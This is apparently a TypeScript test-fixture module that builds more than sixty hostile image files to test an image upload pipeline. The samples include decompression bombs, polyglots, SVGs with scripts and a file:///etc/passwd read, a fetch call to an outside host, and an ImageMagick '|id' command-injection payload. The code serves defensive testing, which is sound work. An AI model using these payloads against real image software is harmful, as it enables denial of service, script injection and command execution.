import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A file that an attacker might send, and the permitted outcome. */
export interface HostileImage {
  name: string
  bytes: Uint8Array
  /** 'refused': must be rejected. 'harmless': rejected or re-encoded. */
  expected: 'refused' | 'harmless'
}

const mark = 'MARK-OF-THE-SENDER'
export const hiddenMark = Buffer.from(mark)

const joined = (...parts: (Uint8Array | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))))

function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = joined(type, data)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc32(body))
  return joined(length, body, check)
}

const pngSignature = '\x89PNG\r\n\x1a\n'

/** Makes a PNG that claims a size and contains the given data as its pixels. */
export function png(width: number, height: number, pixels: Uint8Array, extra: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  return joined(
    pngSignature,
    pngChunk('IHDR', header),
    ...extra,
    pngChunk('IDAT', deflateSync(pixels, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  )
}

function gif(width: number, height: number, frames: number): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt16LE(width, 0)
  size.writeUInt16LE(height, 2)
  const frame = joined('\x21\xf9\x04\x00\x01\x00\x00\x00', '\x2c\x00\x00\x00\x00', size, '\x00\x02\x02\x4c\x01\x00')
  return joined(
    'GIF89a',
    size,
    '\x80\x00\x00\x00\x00\x00\xff\xff\xff',
    ...Array.from({ length: frames }, () => frame),
    ';',
  )
}

/** Makes an application data segment of a JPEG. */
function segment(marker: number, data: Uint8Array | string): Buffer {
  const body = joined(data)
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return joined(head, body)
}

/** Changes the size fields of a JPEG. */
function claimSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg)
  for (let at = 2; at < copy.length - 9;) {
    const marker = copy[at + 1]!
    if (marker === 0xc0 || marker === 0xc2) {
      copy.writeUInt16BE(height, at + 5)
      copy.writeUInt16BE(width, at + 7)
      return copy
    }
    at += 2 + copy.readUInt16BE(at + 2)
  }
  return copy
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert('${mark}')</script></svg>`
const page = `<!doctype html><script>alert('${mark}')</script>`

/**
 * Makes more than sixty files that have harmed image software: bombs, polyglots, broken files, wrong types, false
 * metadata.
 */
export async function hostileImages(): Promise<HostileImage[]> {
  const plain = sharp({ create: { width: 640, height: 480, channels: 3, background: '#7a9' } })
  const jpeg = await plain.clone().jpeg().toBuffer()
  const whole = await plain.clone().png().toBuffer()
  const webp = await plain.clone().webp().toBuffer()
  const avif = await plain.clone().resize(32).avif().toBuffer()
  const tiff = await plain.clone().tiff().toBuffer()
  const located = await plain
    .clone()
    .jpeg()
    .withExif({
      IFD0: { Make: mark, Artist: mark, ImageDescription: page },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '13/1 24/1 0/1' },
    })
    .toBuffer()
  const afterStart = (file: Buffer, insert: Uint8Array) => joined(file.subarray(0, 2), insert, file.subarray(2))
  const refused = (name: string, bytes: Uint8Array | string): HostileImage => ({
    name,
    bytes: joined(bytes),
    expected: 'refused',
  })
  const harmless = (name: string, bytes: Uint8Array): HostileImage => ({ name, bytes, expected: 'harmless' })

  return [
    ...[0.02, 0.1, 0.3, 0.5, 0.7, 0.9].flatMap((share) => [
      refused(`a JPEG cut off at ${share}`, jpeg.subarray(0, Math.floor(jpeg.length * share))),
      refused(`a PNG cut off at ${share}`, whole.subarray(0, Math.floor(whole.length * share))),
      refused(`a WebP cut off at ${share}`, webp.subarray(0, Math.floor(webp.length * share))),
    ]),
    refused('only the start of a JPEG', '\xff\xd8\xff'),
    refused('only the start of a PNG', pngSignature),
    refused('only the start of a GIF', 'GIF89a'),
    refused('only the start of a WebP', 'RIFF\x00\x00\x00\x00WEBP'),
    refused('an SVG', svg),
    refused('an SVG with an XML head', `<?xml version="1.0"?>${svg}`),
    refused('an SVG that reads a file', svg.replace('<script>', '<image href="file:///etc/passwd"/><script>')),
    refused('an SVG that calls home', svg.replace('<script>', '<image href="http://127.0.0.1:9/"/><script>')),
    refused('a page', page),
    refused('a script', `fetch('//example.com?${mark}')`),
    refused('a PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>'),
    refused('PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n(hello) show'),
    refused('ImageMagick vector commands', 'push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context'),
    refused('a TIFF', tiff),
    refused('an AVIF', avif),
    refused('an HEIC head', '\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'),
    refused('a BMP head', 'BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00'),
    refused('an ICO head', '\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00'),
    refused('a PSD head', '8BPS\x00\x01\x00\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x01'),
    refused('a Radiance head', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 99999999\n'),
    refused('an OpenEXR head', '\x76\x2f\x31\x01\x02\x00\x00\x00'),
    refused('a ZIP', 'PK\x03\x04\x14\x00\x00\x00\x08\x00'),
    refused('a program', '\x7fELF\x02\x01\x01\x00'),
    refused('zeros', Buffer.alloc(5_000)),
    refused('text that begins like a GIF', `GIF89a=1;/*${page}*/`),
    refused('a PNG of 65,535 by 65,535 in a kilobyte', png(65_535, 65_535, Buffer.alloc(1_000))),
    refused('a PNG of two thousand million pixels a side', png(0x7fffffff, 0x7fffffff, Buffer.alloc(10))),
    refused('a PNG of 25 megapixels, all there', png(5_000, 5_001, Buffer.alloc(5_001 * 5_001))),
    refused('a PNG one row over the limit', png(6_000, 4_001, Buffer.alloc(4_001 * 6_001))),
    refused('a PNG of no width', png(0, 10, Buffer.alloc(10))),
    refused('a PNG with a wrong checksum', Buffer.from(whole.map((byte, at) => (at === 20 ? byte ^ 0xff : byte)))),
    refused('a PNG without pixels', joined(pngSignature, whole.subarray(8, 33), pngChunk('IEND', Buffer.alloc(0)))),
    refused('a JPEG that claims 65,535 by 65,535', claimSize(jpeg, 65_535, 65_535)),
    refused('a JPEG that claims 30,000 by 30,000', claimSize(jpeg, 30_000, 30_000)),
    refused('a JPEG of no height', claimSize(jpeg, 640, 0)),
    refused(
      'a WebP that claims to be longer',
      joined('RIFF\xff\xff\xff\x7fWEBPVP8L\xff\xff\xff\x7f', Buffer.alloc(64)),
    ),
    refused('a GIF of 60,000 by 60,000', gif(60_000, 60_000, 1)),
    harmless(
      'a PNG with 50 MB of text behind a kilobyte',
      png(8, 8, Buffer.alloc(72), [
        pngChunk('zTXt', joined('a\0\0', deflateSync(Buffer.alloc(50_000_000), { level: 9 }))),
      ]),
    ),
    harmless(
      'a PNG with a colour profile that unpacks to 50 MB',
      png(8, 8, Buffer.alloc(72), [
        pngChunk('iCCP', joined('a\0\0', deflateSync(Buffer.alloc(50_000_000), { level: 9 }))),
      ]),
    ),
    harmless(
      'a PNG with a page in a comment',
      png(8, 8, Buffer.alloc(72), [pngChunk('tEXt', joined('Comment\0', page))]),
    ),
    harmless('a PNG followed by a page', joined(whole, page)),
    harmless('a PNG followed by an archive', joined(whole, 'PK\x03\x04', mark)),
    harmless(
      'a PNG with junk between its pieces',
      joined(whole.subarray(0, 33), pngChunk('juNk', hiddenMark), whole.subarray(33)),
    ),
    harmless('a GIF of ten thousand frames', gif(64, 64, 10_000)),
    harmless('a GIF that is a script too', joined('GIF89a/*', gif(4, 4, 1).subarray(8), `*/=1;${mark}`)),
    harmless('a GIF followed by a page', joined(gif(4, 4, 1), page)),
    harmless('a JPEG that says where it was taken', located),
    harmless('a JPEG followed by a page', joined(jpeg, page)),
    harmless('a JPEG followed by an archive', joined(jpeg, 'PK\x03\x04', mark)),
    harmless('a JPEG with a page in a comment', afterStart(jpeg, segment(0xfe, page))),
    harmless(
      'a JPEG with a script in its application data',
      afterStart(jpeg, segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${page}`)),
    ),
    harmless('a JPEG with a profile of another kind', afterStart(jpeg, segment(0xe2, `ICC_PROFILE\0\x01\x01${mark}`))),
    harmless('a JPEG with a broken EXIF head', afterStart(jpeg, segment(0xe1, 'Exif\0\0MM\0*\xff\xff\xff\xff'))),
    harmless(
      'a JPEG with EXIF that points at itself',
      afterStart(jpeg, segment(0xe1, 'Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\x08')),
    ),
    harmless(
      'a JPEG with an orientation of nine',
      afterStart(jpeg, segment(0xe1, 'Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0\0\0\0\0')),
    ),
    harmless('a WebP followed by a page', joined(webp, page)),
    harmless(
      'a WebP with a page as EXIF',
      joined('RIFF', webp.subarray(4), 'EXIF', Buffer.from([page.length, 0, 0, 0]), page),
    ),
    harmless('a JPEG called by its first bytes twice', joined('\xff\xd8', jpeg)),
  ]
}
